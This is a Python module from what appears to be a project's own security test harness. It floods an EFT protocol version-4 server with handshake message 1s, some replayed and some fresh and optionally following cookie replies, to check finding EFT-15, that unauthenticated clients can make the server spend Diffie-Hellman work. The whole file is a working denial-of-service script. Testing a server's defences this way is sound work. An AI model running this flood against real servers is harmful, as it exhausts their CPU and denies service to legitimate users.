"""A flood of version-4 message 1s: make the server do its Diffie-Hellman for nothing.

Anyone may send message 1, and answering it costs the server a key generation and three
DH before the client has proven anything (docs/PERFORMANCE.md); a message 1 can also be
replayed byte for byte. ``--workers`` concurrent loops, from ``--source``, each: connect,
send a message 1, read the answer, close. Every other message 1 is one captured at the
start and replayed byte for byte; the rest are fresh (a new ephemeral key each).
``--follow-cookies`` plays a cleverer flood that answers each cookie reply with the
cookie, as a real client would.

Success if the server answered at least half of the flood's message 1s with its DH
(message 2): the flood buys the server's CPU at will. Against a server under load that
asks for cookies, the flood gets cookie replies (a BLAKE2s, no DH) and fails; one that
follows cookies still gets message 2s, as many as ``--handshake-rate-per-address``
allows its address. Version 4 only (version 3 has no message 1 of this kind).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import time

from eft_protocol.codes import RESPONSE_HEADER
from eft_protocol.noise import KeyPair
from eft_protocol.v4.client import ClientSessionV4
from eft_protocol.v4.handshake import COOKIE_REPLY_SIZE, cookie_reply_header

from .common import AttackError, Out, address
from .v4 import add_protocol_argument

FINDING = "EFT-15"
SUMMARY = "a flood of v4 message 1s (replayed and fresh) costs the server a DH each"

OUTCOMES = ("server_hello", "cookie", "closed")


def add_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--target", required=True, help="the eft server, HOST:PORT")
    parser.add_argument("--source", help="local address to flood from (e.g. 127.0.0.3)")
    parser.add_argument("--duration", type=float, default=5.0, help="seconds to flood (5)")
    parser.add_argument("--workers", type=int, default=8, help="concurrent connections (8)")
    parser.add_argument(
        "--follow-cookies",
        action="store_true",
        help="answer a cookie reply with the cookie, as our client does",
    )
    add_protocol_argument(parser)


#: Message 1 does not use the static key: one for every session of the flood.
_STATIC = KeyPair.generate()


def _session(ephemeral: KeyPair | None = None) -> ClientSessionV4:
    """A client session; with the captured ``ephemeral`` key, its message 1 is the
    captured one byte for byte."""
    return ClientSessionV4(
        _STATIC, "flood", register=True, check_server=_trust, ephemeral=ephemeral
    )


def _trust(_fingerprint: str) -> None:
    return None


async def _one(
    target: str, source: str | None, first: bytes, session: ClientSessionV4 | None
) -> tuple[str, bool]:
    """One connection: message 1, the answer. (outcome, whether a cookie was followed)."""
    host, port = address(target)
    local = None if source is None else (source, 0)
    reader, writer = await asyncio.open_connection(host, port, local_addr=local)
    followed = False
    try:
        writer.write(first)
        while True:
            header = await reader.readexactly(RESPONSE_HEADER.size)
            if header != cookie_reply_header():
                return "server_hello", followed
            cookie = await reader.readexactly(COOKIE_REPLY_SIZE)
            if session is None or followed:
                return "cookie", followed
            # A careful flood: message 1 again, with the cookie (the same ephemeral key).
            writer.write(session.receive(header, cookie).send[0])
            followed = True
    except (asyncio.IncompleteReadError, ConnectionError, OSError):
        return "closed", followed
    finally:
        writer.close()
        with contextlib.suppress(ConnectionError, OSError):
            await writer.wait_closed()


async def _worker(
    args: argparse.Namespace, captured: KeyPair, deadline: float, counts: dict[str, int]
) -> None:
    replay = True
    while time.monotonic() < deadline:
        session = _session(captured if replay else None)
        follower = session if args.follow_cookies else None
        try:
            outcome, followed = await _one(args.target, args.source, session.start(), follower)
        except OSError:
            counts["connect_failed"] += 1
            await asyncio.sleep(0.01)
            continue
        counts[outcome] += 1
        counts["cookies_followed"] += followed
        counts["replayed" if replay else "fresh"] += 1
        replay = not replay


async def run(args: argparse.Namespace, out: Out) -> bool:
    if args.protocol != 4:
        raise AttackError("version 3 has no message 1 of this kind: use --protocol 4")
    captured = KeyPair.generate()  # the ephemeral key of the one message 1 replayed
    assert _session(captured).start() == _session(captured).start()
    counts = dict.fromkeys((*OUTCOMES, "replayed", "fresh", "connect_failed"), 0)
    counts["cookies_followed"] = 0
    out.step(
        f"flooding message 1s for {args.duration} s with {args.workers} workers",
        source=args.source,
        follow_cookies=args.follow_cookies,
    )
    started = time.monotonic()
    deadline = started + args.duration
    await asyncio.gather(*(_worker(args, captured, deadline, counts) for _ in range(args.workers)))
    sent = sum(counts[outcome] for outcome in OUTCOMES)
    rate = sent / max(time.monotonic() - started, 1e-6)
    answered = counts["server_hello"]
    return out.result(
        sent > 0 and answered * 2 >= sent,
        f"{answered} of {sent} message 1s ({rate:.0f}/s) answered with the server's DH, "
        f"{counts['cookie']} with a cookie reply, {counts['closed']} closed",
        sent=sent,
        rate=round(rate),
        **counts,
    )
